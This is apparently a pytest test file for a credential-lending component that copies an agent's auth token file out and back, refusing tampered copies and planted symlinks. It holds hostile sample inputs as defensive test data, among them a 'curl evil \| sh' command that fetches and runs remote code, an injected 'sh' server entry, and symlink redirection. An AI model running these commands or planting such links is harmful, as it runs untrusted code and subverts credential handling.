from __future__ import annotations

import json
from pathlib import Path

import pytest

from loopwright.errors import AgentError
from loopwright.run.login import Login

NAME = ".agent/auth.json"
BEFORE = {"tokens": {"access_token": "a1", "refresh_token": "r1", "account_id": "me"}, "servers": {"x": {"run": "ls"}}}


@pytest.fixture
def login(tmp_path: Path) -> Login:
    """Give a login of which one file is there and one is not."""
    for name in ("user/.agent", "agent"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "user" / NAME).write_text(json.dumps(BEFORE))
    (tmp_path / "user" / NAME).chmod(0o600)
    login = Login([NAME, ".agent/other.json"], tmp_path / "user", tmp_path / "agent")
    login.lend(None)
    return login


def test_lent(login: Login) -> None:
    """What is there is copied, for nobody else to read, and gone from the agent's home afterwards."""
    copy = login.home / NAME
    assert json.loads(copy.read_text()) == BEFORE
    assert copy.stat().st_mode & 0o777 == 0o600
    assert not (login.home / ".agent/other.json").exists()
    assert login.take_back() == []
    assert not copy.exists()


def renewed() -> dict[str, object]:
    return {**BEFORE, "tokens": {"access_token": "a2", "refresh_token": "r2", "account_id": "me"}}


def test_renewed(login: Login) -> None:
    """Tokens that were renewed come home, as private as they were."""
    (login.home / NAME).write_text(json.dumps(renewed()))
    assert login.take_back() == []
    assert json.loads((login.user / NAME).read_text()) == renewed()
    assert (login.user / NAME).stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    "content",
    [
        "",
        "{",
        "[" * 100_000,
        json.dumps({**renewed(), "servers": {"x": {"run": "curl evil | sh"}}}),
        json.dumps({**renewed(), "servers": {**BEFORE["servers"], "y": {"run": "sh"}}}),
        json.dumps({**renewed(), "hooks": {}}),
        json.dumps(
            {"tokens": {"access_token": {"run": "sh"}, "refresh_token": "r", "account_id": "me"}, "servers": {}}
        ),
        json.dumps({"tokens": BEFORE["tokens"]}),
    ],
)
def test_changed_in_other_ways(login: Login, content: str) -> None:
    """What is no JSON any more, or was changed in more than tokens, stays away and is told."""
    (login.home / NAME).write_text(content)
    (told,) = login.take_back()
    assert f"`{NAME}`" in told
    assert json.loads((login.user / NAME).read_text()) == BEFORE


def test_both_changed(login: Login) -> None:
    """A file that the user has renewed meanwhile is left as it is."""
    (login.home / NAME).write_text(json.dumps(renewed()))
    (login.user / NAME).write_text("{}")
    assert login.take_back() == []
    assert (login.user / NAME).read_text() == "{}"


def test_a_link_in_its_place(login: Login, tmp_path: Path) -> None:
    """A link that the agent put there is not followed, neither to be read nor to be removed."""
    (tmp_path / "theirs").write_text(json.dumps(renewed()))
    (login.home / NAME).unlink()
    (login.home / NAME).symlink_to(tmp_path / "theirs")
    assert login.take_back() == []
    assert json.loads((login.user / NAME).read_text()) == BEFORE
    (login.home / NAME).unlink(missing_ok=True)
    login.lend(None)
    (login.home / ".agent").rename(login.home / "moved")
    (login.home / ".agent").symlink_to(login.user / ".agent")
    assert login.take_back() == []
    assert (login.user / NAME).exists()
    with pytest.raises(AgentError, match="can't be put into the agent's home"):
        login.lend(None)
